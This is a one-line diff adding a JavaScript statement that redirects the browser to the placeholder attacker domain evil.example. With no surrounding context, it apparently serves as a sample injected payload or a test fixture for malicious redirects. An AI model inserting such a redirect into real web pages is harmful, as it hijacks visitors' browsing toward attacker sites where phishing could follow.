@@ -1,0 +1,1 @@
+document.location="https://evil.example/";
